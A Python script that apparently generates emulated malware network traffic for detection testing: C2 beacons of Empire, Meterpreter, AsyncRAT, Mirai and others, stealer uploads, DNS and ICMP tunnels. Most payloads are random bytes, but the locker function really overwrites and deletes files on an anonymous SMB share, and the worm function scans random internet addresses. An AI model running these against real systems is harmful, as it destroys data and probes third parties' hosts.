#!/usr/bin/env python3
"""What infected and leaking inside hosts do: default profiles of known frameworks and families, their pauses shortened.  covert.py NAME ARGUMENTS..."""
import base64
import io
import json
import os
import random
import socket
import struct
import sys
import time
import zlib

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "common"))
from wire import checksum, connect, pause, quietly, secure, until  # noqa: E402

EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko"


def request(s, method, path, host, headers=(), body=b"", agent=EDGE):
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", *([f"User-Agent: {agent}"] if agent else []), *headers, *([f"Content-Length: {len(body)}"] if body or method in ("POST", "PUT") else [])]
    s.sendall("\r\n".join(lines).encode() + b"\r\n\r\n" + body)
    return answer(s)


def answer(s):
    s.settimeout(20)
    data = b""
    while b"\r\n\r\n" not in data:
        part = s.recv(65536)
        if not part:
            return data
        data += part
    head, _, body = data.partition(b"\r\n\r\n")
    length = next((int(line.split(b":")[1]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")), 0)
    while len(body) < length:
        part = s.recv(65536)
        if not part:
            break
        body += part
    return body


def one(target, port, *arguments, tls=None, **named):
    with (secure(target, port, tls or None) if tls is not None else connect(target, port)) as s:
        return request(s, *arguments, **named)


# Masters

def empire(target, every, seconds):
    """PowerShell Empire's default profile: three pages by turns, the routing packet as a cookie, five seconds, no jitter."""
    for end in until(seconds):
        quietly(one, target, 80, "GET", random.choice(("/admin/get.php", "/news.php", "/login/process.php")), target, [f"Cookie: session={base64.b64encode(os.urandom(20)).decode()}"], agent="Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko")
        pause(every, 0, end)


def covenant(target, every, jitter, seconds):
    def post(message):
        return f"i=a19ea23062db990386a3a478cb89d52e&data={base64.urlsafe_b64encode(message).decode()}&session=75db-99b1-25fe4e9afbe58696-320bea73".encode()
    for end in until(seconds):
        quietly(one, target, 80, "GET", random.choice(("/en-us/index.html", "/en-us/docs.html", "/en-us/test.html")), target, [f"Cookie: ASPSESSIONID={os.urandom(5).hex()}; SESSIONID=1552332971750"])
        if random.random() < 0.2:
            quietly(one, target, 80, "POST", "/en-us/test.html", target, (), post(os.urandom(400)))
        pause(every, jitter, end)


def meterpreter_https(target, port, seconds):
    """reverse_https: it asks, with nothing to do, ever more seldom up to ten seconds; then someone works with it."""
    path, wait, end = "/" + base64.urlsafe_b64encode(os.urandom(90)).decode(), 0.1, time.monotonic() + float(seconds)
    while time.monotonic() < end:
        quietly(one, target, port, "GET", path + "/", target, tls="")
        if random.random() < 0.06:
            quietly(one, target, port, "POST", path + "/", target, (), os.urandom(random.randint(120, 900)), tls="")
            wait = 0.1
        time.sleep(min(wait, max(0, end - time.monotonic())))
        wait = min(wait * 1.7 + 0.1, 10)


def talk(target, port, seconds, tls, first, beat, every, jitter):
    """One connection: a greeting, then a beat now and then; what the master wants meanwhile is answered."""
    with (secure(target, port) if tls else connect(target, port)) as s:
        s.sendall(first)
        last = 0.0
        for end in until(seconds):
            s.settimeout(0.5)
            try:
                data = s.recv(65536)
                if not data:
                    return
                s.sendall(beat() if random.random() < 0.5 else beat() + os.urandom(random.randint(50, 1500)))
            except TimeoutError:
                pass
            if time.monotonic() - last > float(every) * random.uniform(1 - jitter, 1 + jitter):
                s.sendall(beat())
                last = time.monotonic()


def asyncrat(target, port, seconds):
    """A packet each: four bytes of length, gzip; a ping every ten seconds or so (AsyncRAT, DcRat)."""
    def packed(data):
        z = b"\x1f\x8b\x08\0\0\0\0\0\4\0" + zlib.compress(data)[2:]
        return struct.pack("<i", len(z) + 4) + struct.pack("<i", len(data)) + z
    talk(target, port, seconds, True, packed(b"\x89\xa6Packet\xaaClientInfo\xa4HWID\xb4" + os.urandom(10).hex().encode() + b"\xa4User\xa5alice\xa2OS\xbeWindows 10 Pro 64bit"), lambda: packed(b"\x82\xa6Packet\xa4Ping\xa7Message\xa0" + os.urandom(2)), 8, 0.3)


def njrat(target, port, seconds):
    def line(text):
        return f"{len(text)}\0{text}".encode()
    talk(target, port, seconds, False, line("ll|'|'|SGFjS2VkX0E1RjM=|'|'|DESK-20|'|'|alice|'|'|26-11-27|'|'||'|'|Win 10 Pro SP0 x64|'|'|No|'|'|0.7d|'|'|..|'|'|RmlsZSBFeHBsb3Jlcg==|'|'|"), lambda: line("act|'|'|" + base64.b64encode(random.choice((b"Inbox - Mail", b"Report.docx", b"Depot - Browser"))).decode()), 9, 0.4)


def gh0st(target, port, seconds):
    def packet(data):
        z = zlib.compress(data)
        return b"Gh0st" + struct.pack("<ii", len(z) + 13, len(data)) + z
    talk(target, port, seconds, False, packet(b"f" + os.urandom(60) + b"DESK-20\0" * 12), lambda: packet(b"\xcc" + b"\0" * 8), 10, 0.1)


def irc(target, port, seconds):
    """A bot in its channel; orders come in between."""
    with connect(target, port) as s:
        s.sendall(b"PASS letmein\r\nNICK [DEU|W10|x64]48213\r\nUSER x48213 * 0 :DESK-20\r\n")
        f = s.makefile("rb")
        s.settimeout(1)
        joined = False
        for _ in until(seconds):
            try:
                line = f.readline()
            except (TimeoutError, OSError):
                f = s.makefile("rb")
                continue
            if b" 001 " in line and not joined:
                joined = True
                s.sendall(b"MODE [DEU|W10|x64]48213 +i\r\nJOIN #rxb0t s3cr3t\r\n")
            elif line.startswith(b"PING"):
                s.sendall(b"PONG" + line[4:])
            elif b".sysinfo" in line:
                s.sendall(b"PRIVMSG #rxb0t :[SYSINFO]: CPU: 3200MHz. RAM: 8096MB. OS: Windows 10. Up: 3d 4h. User: alice.\r\n")
            elif b"PRIVMSG" in line:
                s.sendall(b"PRIVMSG #rxb0t :[DDoS]: Flooding 192.0.2.9:80 for 60 seconds.\r\n")


def emotet(targets, every, seconds):
    """Form data under a path by chance, one address after the other, each by number."""
    for end in until(seconds):
        target, mark = random.choice(targets.split(",")), os.urandom(8).hex()
        path = "/" + "/".join(base64.b32encode(os.urandom(random.randint(3, 9))).decode().strip("=").lower() for _ in range(random.randint(1, 4))) + "/"
        body = f"--{mark}\r\nContent-Disposition: form-data; name=\"{os.urandom(4).hex()}\"; filename=\"{os.urandom(4).hex()}\"\r\nContent-Type: application/octet-stream\r\n\r\n".encode() + os.urandom(random.randint(300, 4000)) + f"\r\n--{mark}--\r\n".encode()
        quietly(one, target, 8080, "POST", path, f"{target}:8080", [f"Referer: {target}{path}", f"Content-Type: multipart/form-data; boundary={mark}"], body)
        pause(every, 40, end)


def windows_shell(target, port, seconds, style):
    """A Windows prompt sent out; the master types."""
    with connect(target, port) as s:
        prompt = b"\r\nC:\\Users\\alice\\Documents>" if style == "cmd" else b"PS C:\\Users\\alice> "
        s.sendall((b"Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation. All rights reserved.\r\n" if style == "cmd" else b"Windows PowerShell running as user alice on DESK-20\nCopyright (C) 2015 Microsoft Corporation. All rights reserved.\n\n") + prompt)
        for _ in until(seconds):
            s.settimeout(1)
            try:
                typed = s.recv(4096)
                if not typed:
                    return
                time.sleep(0.2)
                s.sendall(typed.strip() + b"\r\n" + b"".join(b"%s                   %08d\r\n" % (os.urandom(6).hex().encode(), random.getrandbits(20)) for _ in range(random.randint(3, 30))) + prompt)
            except TimeoutError:
                pass


def mirai(target, port, seconds):
    """The bot's word to its master, then two zero bytes now and then that come back; an attack's order in between is binary too."""
    talk(target, port, seconds, False, b"\0\0\0\1\4arm7", lambda: b"\0\0", 5, 0.02)


def gafgyt(target, port, seconds):
    """A bot that speaks in words: "PING" is answered "PONG", orders begin with "!*"."""
    with connect(target, port) as s:
        s.sendall(b"BUILD ARM7:telnet\n")
        for _ in until(seconds):
            s.settimeout(1)
            try:
                line = s.recv(500)
                if not line:
                    return
                s.sendall(b"PONG!\n" if b"PING" in line else b"HTTP flooding 192.0.2.9 for 60 seconds.\n")
            except TimeoutError:
                pass


def metasploit_http(target, seconds):
    """reverse_http: as the other, in clear: a name by chance, nothing said, until there is something."""
    path, wait, end = "/" + base64.urlsafe_b64encode(os.urandom(60)).decode(), 0.2, time.monotonic() + float(seconds)
    while time.monotonic() < end:
        quietly(one, target, 8080, "GET", path, f"{target}:8080", ["Connection: Keep-Alive", "Cache-Control: no-cache"], agent="Mozilla/5.0 (Macintosh; Intel Mac OS X 12.2; rv:97.0) Gecko/20100101 Firefox/97.0")
        time.sleep(min(wait, max(0, end - time.monotonic())))
        wait = min(wait * 1.5, 6)


def quasar(target, port, every, seconds):
    """TLS to an address, status now and then, a screen's picture when asked for."""
    talk(target, port, seconds, True, os.urandom(240), lambda: struct.pack("<I", 28) + os.urandom(28), every, 0.5)


def dns_beacon(target, every, seconds):
    """A look-up of a name of the own zone at a steady pace, its answer an address that means something (Cobalt Strike's idle DNS)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    mark = os.urandom(4).hex()
    for end in until(seconds):
        question(s, target, f"{mark}.a.depot.example", 1)
        pause(every, 10, end)


# Programs from strangers, theft, work for others

def qakbot(targets):
    for target in targets.split(","):
        quietly(one, target, 80, "GET", f"/{44000 + random.randint(1, 999)}.{random.randint(10**8, 10**10)}.dat", target, agent="")
        time.sleep(1)


def icedid(target):
    quietly(one, target, 80, "GET", "/", "ilekvoyn.example", ["Connection: Keep-Alive", "Cookie: __gads=3082143571:1:7316:123; _gat=10.0.19045.64; _ga=1.591594.1635208534.1022; _u=4445534B2D3230:616C696365; __io=21_3990468985_3832573211_2062024380; _gid=006B5A3B7C11"], agent="")
    for _ in range(3):
        time.sleep(2)
        quietly(one, target, 443, "GET", "/news/3/255/0", "ilekvoyn.example", tls="ilekvoyn.example")


def hta(target):
    for path, agent in (("/inv.hta", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Win64; x64; Trident/7.0; .NET4.0C; .NET4.0E)"), ("/s.sct", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0)"), ("/n.js", "WinHTTP/1.0")):
        quietly(one, target, 80, "GET", path, target, agent=agent)
        time.sleep(1.5)


def certutil(target):
    for agent in ("Microsoft-CryptoAPI/10.0", "CertUtil URL Agent"):
        quietly(one, target, 80, "GET", "/update.b64", target, ["Accept: */*", "Cache-Control: no-cache"], agent=agent)
        time.sleep(1)


def picture_program(target):
    """TrickBot's way: programs under pictures' names, each address by number."""
    for path in ("/images/redcar.png", "/images/cursor.png"):
        quietly(one, target, 80, "GET", path, target, agent="WinHTTP loader/1.0")
        time.sleep(1.5)


def raccoon(target):
    """A stealer: it tells who it is, is told what to take, fetches libraries, brings what it found."""
    agent = "record"
    quietly(one, target, 80, "POST", "/", target, ["Content-Type: application/x-www-form-urlencoded; charset=utf-8"], b"machineId=90059c37-1320-41a4-b58d-2b75a9850d2f|alice&configId=59c9737264c0b3209d9193b8ded6c127", agent=agent)
    for name in ("nss3", "msvcp140", "vcruntime140", "mozglue", "freebl3", "softokn3", "sqlite3"):
        quietly(one, target, 80, "GET", f"/aN7jD0qO6kT5bK5bQ4eR8fE1xP7hL2vK/{name}.dll", target, agent=agent)
        time.sleep(0.3)
    for part in (b"System Info.txt", b"cookies.txt", b"wallets.zip"):
        body = b"--x9\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + part + b"\"\r\nContent-Type: application/x-object\r\n\r\n" + os.urandom(20000) + b"\r\n--x9--\r\n"
        quietly(one, target, 80, "POST", "/9e4d4a9cc7b6f0a1", target, ["Content-Type: multipart/form-data; boundary=x9"], body, agent=agent)
        time.sleep(0.5)


def miner_tls(target, port, seconds):
    """XMRig over TLS to a pool's port 443 kind; a job about every twelve seconds, a share now and then."""
    with secure(target, port) as s:
        def say(**what):
            s.sendall(json.dumps(what).encode() + b"\n")
        say(id=1, jsonrpc="2.0", method="login", params={"login": "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", "pass": "x", "agent": "XMRig/6.21.0 (Linux x86_64)", "algo": ["rx/0"]})
        for _ in until(seconds):
            s.settimeout(1)
            try:
                if not s.recv(8192):
                    return
            except TimeoutError:
                pass
            if random.random() < 0.07:
                say(id=2, jsonrpc="2.0", method="submit", params={"id": "x", "job_id": os.urandom(8).hex(), "nonce": os.urandom(4).hex(), "result": os.urandom(32).hex()})


def miner_eth(target, port, seconds):
    with connect(target, port) as s:
        s.sendall(b'{"id":1,"method":"eth_submitLogin","worker":"rig1","params":["0x7Fb21ac4Cd75d9De3E1c5D11D87bB904c01880fc","x"],"jsonrpc":"2.0"}\n')
        for end in until(seconds):
            s.sendall(b'{"id":5,"method":"eth_getWork","params":[],"jsonrpc":"2.0"}\n')
            pause(5, 10, end)


def worm(port, count, rate):
    """SYNs to addresses by chance, as a worm in a device sends them (sequence number: the target)."""
    from wire import ip, paced, sender, tcp
    s = sender()
    me = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    me.connect(("203.0.113.5", 9))
    me = me.getsockname()[0]
    for _ in paced(count, rate):
        target = f"{random.randint(20, 170)}.{random.randint(1, 250)}.{random.randint(1, 250)}.{random.randint(1, 250)}"
        s.sendto(ip(me, target, 6, tcp(me, target, random.randint(1024, 65000), int(port), 2)), (target, 0))


def generated(target, count, rate):
    """Necurs' way: syllables under two top-level domains; none exists."""
    from wire import paced
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in paced(count, rate):
        name = "".join(random.choice("bcdfghjklmnpqrstvwxz") + random.choice("aeiouy") * (random.random() < 0.5) for _ in range(random.randint(5, 13)))
        labels = (name + random.choice((".com", ".net"))).split(".")
        s.sendto(os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(x)]) + x.encode() for x in labels) + b"\0\0\1\0\1", (target, 53))


def locker(target, share, count):
    """A locker on a share: each document read, written anew under its name and another ending, the old one deleted; a note in between."""
    from impacket.smbconnection import SMBConnection
    c = SMBConnection(target, target, timeout=5)
    c.login("", "")
    names = [f.get_longname() for f in c.listPath(share, "*") if not f.is_directory()][:int(count)]
    for i, name in enumerate(names):
        box = io.BytesIO()
        c.getFile(share, name, box.write)
        c.putFile(share, name + ".lockbit", io.BytesIO(os.urandom(len(box.getvalue()) + 256)).read)
        c.deleteFile(share, name)
        if i % 20 == 0:
            c.putFile(share, f"Restore-My-Files{i}.txt", io.BytesIO(b"All your data is stolen and encrypted. Contact us by Tor.").read)
        time.sleep(0.05)


# Theft

def posts_tls(target, count, size, name, wait):
    """A zipped folder in pieces, a TLS connection each."""
    for i in range(int(count)):
        quietly(one, target, 443, "POST", f"/upload?part={i}", name, ["Content-Type: application/octet-stream"], os.urandom(int(size)), tls=name, agent="Go-http-client/1.1")
        time.sleep(float(wait))


def parts_s3(target, count, size):
    """An object in parts over one connection, as any cloud's tool sends it."""
    with secure(target, 443, "backup-x7.s3.example") as s:
        for i in range(1, int(count) + 1):
            request(s, "PUT", f"/d.zip?partNumber={i}&uploadId=2~aZ0", "backup-x7.s3.example", ["Authorization: AWS4-HMAC-SHA256 Credential=AKIAX/20261127/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=00"], os.urandom(int(size)), agent="aws-cli/2.15.1")


def multipart(target, size):
    body = b"--b7\r\nContent-Disposition: form-data; name=\"file\"; filename=\"hr.7z\"\r\nContent-Type: application/x-7z-compressed\r\n\r\n7z\xbc\xaf\x27\x1c" + os.urandom(int(size)) + b"\r\n--b7--\r\n"
    quietly(one, target, 8080, "POST", "/up.php", f"{target}:8080", ["Content-Type: multipart/form-data; boundary=b7"], body)


def slow_tls(target, size, rate):
    with secure(target, 443, "sync.example") as s:
        s.sendall(f"PUT /x HTTP/1.1\r\nHost: sync.example\r\nUser-Agent: curl/7.88\r\nContent-Length: {size}\r\n\r\n".encode())
        for _ in range(int(size) // 16384):
            s.sendall(os.urandom(16384))
            time.sleep(16384 / float(rate))


def socket_parts(target, ports, each):
    for port in ports.split(","):
        with connect(target, port) as s:
            s.sendall(os.urandom(int(each)))
        time.sleep(0.5)


def websocket_up(target, size):
    with connect(target, 8080) as s:
        s.sendall(f"GET /ws HTTP/1.1\r\nHost: {target}:8080\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {base64.b64encode(os.urandom(16)).decode()}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
        time.sleep(0.3)
        for _ in range(int(size) // 60000):
            s.sendall(struct.pack("!BBHI", 0x82, 0xFE, 60000, 7) + os.urandom(60000))


def by_udp(target, port, size, rate):
    """Datagrams of 1,200 bytes, as UDT or a fast copier sends them."""
    from wire import paced
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in paced(int(size) // 1200, float(rate) / 1200):
        quietly(s.sendto, os.urandom(1200), (target, int(port)))


def plain_443(target, port, size):
    """Bytes of no protocol through the port of another."""
    with connect(target, port) as s:
        for _ in range(int(size) // 65536):
            s.sendall(os.urandom(65536))


def pieces_put(target, count, size):
    """WebDAV to an address, a file a request, one connection."""
    with connect(target, 8080) as s:
        for i in range(int(count)):
            request(s, "PUT", f"/share/finance/{i}.xlsx", f"{target}:8080", ["Content-Type: application/octet-stream"], os.urandom(int(size)), agent="Microsoft-WebDAV-MiniRedir/10.0.19045")


# Tunnels

def icmp_shell(target, seconds):
    """icmpsh: the slave asks five times a second with an empty echo; an answer brings a command, the next echoes its output."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.settimeout(0.2)
    number, mark, out = 0, random.getrandbits(16), b""
    for _ in until(seconds):
        number += 1
        body = out[:64]
        out = out[64:]
        head = struct.pack("!BBHHH", 8, 0, 0, mark, number & 0xFFFF)
        s.sendto(struct.pack("!BBHHH", 8, 0, checksum(head + body), mark, number & 0xFFFF) + body, (target, 0))
        try:
            data = s.recv(2000)[28:]
            if data and data != body:
                out += b"\r\n".join(os.urandom(8).hex().encode() for _ in range(random.randint(10, 60))) + b"\r\nC:\\>"
        except TimeoutError:
            pass
        time.sleep(0.2)


def icmp_orders(seconds):
    """icmpsh's master: answers each echo itself (the kernel must not), now and then with a command."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.settimeout(1)
    last = time.monotonic()
    for _ in until(seconds):
        try:
            data, (who, _) = s.recvfrom(2000)
        except TimeoutError:
            continue
        if data[20] != 8:
            continue
        body = b""
        if time.monotonic() - last > 5:
            last, body = time.monotonic(), random.choice((b"whoami\n", b"ipconfig /all\n", b"net user\n", b"dir C:\\\n"))
        head = b"\0\0\0\0" + data[24:28]
        s.sendto(b"\0\0" + struct.pack("!H", checksum(head + body)) + data[24:28] + body, (who, 0))


def question(s, target, name, kind):
    s.sendto(os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1), (target, 53))
    try:
        return s.recv(4000)
    except TimeoutError:
        return b""


def dnscat2(target, seconds):
    """dnscat2's default client: MX, CNAME and TXT by turns, a poll a second, hex in labels; bursts where there is output."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    session, number = os.urandom(2).hex(), random.getrandbits(15)
    for end in until(seconds):
        for _ in range(random.choice((1, 1, 1, 1, 6))):
            number += 1
            data = os.urandom(2).hex() + "01" + session + f"{number & 0xFFFF:04x}" + os.urandom(4).hex() + (os.urandom(random.randint(20, 90)).hex() if random.random() < 0.25 else "")
            question(s, target, ".".join(data[i:i + 60] for i in range(0, len(data), 60)) + ".c2.depot.example", random.choice((15, 5, 16)))
        pause(1, 5, end)


def staged_txt(target, count):
    """A program in pieces out of TXT records, numbered (the way Cobalt Strike's and other stagers take)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    for i in range(int(count)):
        question(s, target, f"{i}.stage.{random.getrandbits(24)}.dl.depot.example", 16)
        time.sleep(0.06)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
